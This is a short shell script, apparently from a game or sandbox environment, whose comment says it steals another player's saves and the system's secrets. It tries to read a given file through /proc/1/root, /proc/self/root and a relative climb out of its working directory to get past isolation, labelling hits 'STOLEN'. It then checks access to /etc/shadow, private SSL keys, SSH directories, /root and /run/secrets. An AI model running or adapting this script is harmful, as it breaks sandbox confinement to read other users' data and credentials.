# Reads another player's saves, whose path it knows, and the system's secrets.
for root in "" /proc/1/root /proc/self/root /proc/self/cwd/../../..; do
  cat "$root$1" 2>/dev/null && echo "STOLEN by $root"
done
for secret in /etc/shadow /etc/ssl/private /etc/ssh /root /home/*/.ssh /var/log /run/secrets /sys/fs/cgroup; do
  ls "$secret" >/dev/null 2>&1 && echo "SEEN $secret"
done
echo finished
